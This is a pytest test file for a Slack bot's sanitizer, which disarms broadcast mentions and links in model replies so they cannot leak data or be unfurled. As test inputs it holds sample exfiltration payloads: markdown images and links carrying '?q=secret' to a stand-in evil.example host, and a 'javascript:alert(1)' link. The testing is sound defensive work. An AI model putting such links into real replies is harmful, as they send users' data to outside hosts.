"""What a model says calls nobody, and its links hide and carry nothing."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from slack_interface.model_words import CALLS, ModelWords, no_calls
from tests.people import ADA, GRACE
from tests.slack_interface.world import World, saying

JOINER = "\u2060"
EVIL = "https://evil.example"


def shown(*pieces: str, asked: str = "") -> str:
    words = ModelWords(asked, lambda user: "Grace" if user == GRACE else "")
    return "".join([*(words.passes(piece) for piece in pieces), words.rest()])


@pytest.mark.parametrize("call", CALLS)
def test_a_call_is_caught_however_it_is_cut(call: str) -> None:
    whole = f"a < b {call}> and {call}|label>"
    for cut in range(len(whole)):
        said = shown(whole[:cut], whole[cut:])
        assert call not in said
        assert said.replace(JOINER, "") == whole
    assert call not in shown(*whole)


HARMLESS = [
    "<!DOCTYPE html>", "a <", "<!-- x -->", "x<y", "<!", "I [think](so", "x[0] = y[1](a)", "5 ` 6",
    "See https://docs.python.org/3/library/re.html#re.sub, please.", "[docs](https://a.example/b)",
    "[a.example](https://a.example/b)", "[write](mailto:ada@example.org)", "and/or i.e. 1.5/2? no",
    "`curl https://a.example/?q=1` works", "```sh\ncurl https://a.example/?q=1\n```\n", "foo.py/x",
]  # fmt: skip


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert shown(*text) == text
    assert shown(text) == text


DISARMED = [
    (f"see {EVIL}/?q=secret.", f"see `{EVIL}/?q=secret`."),
    (f"[click]({EVIL}/?q=secret)", f"click (`{EVIL}/?q=secret`)"),
    (f"![a chart]({EVIL}/a.png?d=secret)", f"a chart (`{EVIL}/a.png?d=secret`)"),
    (f"![]({EVIL}/a.png?d=secret)", f"`{EVIL}/a.png?d=secret`"),
    (f"![a]({EVIL}/a.png)", f"[a]({EVIL}/a.png)"),
    (f"<{EVIL}/?q=secret|click>", f"click (`{EVIL}/?q=secret`)"),
    (f"<{EVIL}|https://good.example>", EVIL),
    (f"[https://good.example]({EVIL}/)", f"{EVIL}/"),
    (f"[good.example]({EVIL}/)", f"{EVIL}/"),
    ("evil.example/?q=secret", "`evil.example/?q=secret`"),
    ("https://me:secret@evil.example", "`https://me:secret@evil.example`"),
    (f"{EVIL}/" + "x" * 90, f"`{EVIL}/" + "x" * 90 + "`"),
    ("https://" + "x" * 60 + ".example/", "`https://" + "x" * 60 + ".example/`"),
    ("[a](javascript:alert(1))", "a (`javascript:alert(1)`)"),
    (f"\\` {EVIL}/?q=1 \\`", f"\\` https:{JOINER}//evil{JOINER}.example/?q=1 \\`"),
    (f"```\nx\n```\n{EVIL}/?q=1", f"```\nx\n```\n`{EVIL}/?q=1`"),
    (f"a ``` b {EVIL}/?q=1", f"a ``` b https:{JOINER}//evil{JOINER}.example/?q=1"),
    (f"<@{GRACE}> and <@U0X|x>", "@Grace and @U0X"),
]


def bare(text: str) -> str:
    """Without what keeps an address from being a link."""
    return text.replace(JOINER, "").replace("`", "")


def live(text: str) -> bool:
    """Whether Slack would make a link of an address that could carry something."""
    return bool(
        re.search(r"(?<!`)(?:https?://|(?<![./\w])evil\.example)[^\s)]*(?:[?@]|x{9})", text)
    )


@pytest.mark.parametrize(("said", "safe"), DISARMED)
def test_what_could_do_harm_is_disarmed_however_it_is_cut(said: str, safe: str) -> None:
    assert shown(said) == safe
    for pieces in ([*said], *((said[:cut], said[cut:]) for cut in range(len(said)))):
        found = shown(*pieces)
        assert bare(found) == bare(safe)
        assert not live(found), found


def test_whom_and_what_the_asker_named_stays() -> None:
    said = f"Tell <@{GRACE}> of {EVIL}/?id=7"
    assert shown(said, asked=f"Write to <@{GRACE}> about {EVIL}/?id=7") == said


@settings(max_examples=150)
@given(
    st.lists(st.sampled_from([*"abc <>[]()`\n!./?|", *CALLS, "https://", "evil.example", "<@U0"]))
)
def test_cutting_changes_nothing(pieces: list[str]) -> None:
    whole = "".join(pieces)
    assert bare(shown(*pieces)) == bare(shown(whole))
    assert no_calls(shown(whole)) == shown(whole)


async def test_an_answer_in_a_channel_calls_nobody(world: World) -> None:
    world.orchestrator.script = saying(
        "Hey <!chan", f"nel>, <@{GRACE}>, <@{ADA}>, or <", "!here> even <"
    )
    ts = await world.say("@Virtuous6 call them", channel="general")
    [reply] = await world.replies(ts, "C0GENERAL")
    assert reply["text"] == f"Hey <{JOINER}!channel>, @{GRACE}, <@{ADA}>, or <{JOINER}!here> even <"


async def test_what_is_posted_makes_slack_fetch_nothing(world: World) -> None:
    world.pace.no_streaming()
    await world.replies(await world.say("hello"))
    await world.say("help")
    await world.idle()
    rows = (await world.get("log?kind=api"))["log"]
    posts = [row["args"] for row in rows if row["method"] == "chat.postMessage"]
    assert len(posts) >= 2
    assert all(post["unfurl_links"] is post["unfurl_media"] is False for post in posts)
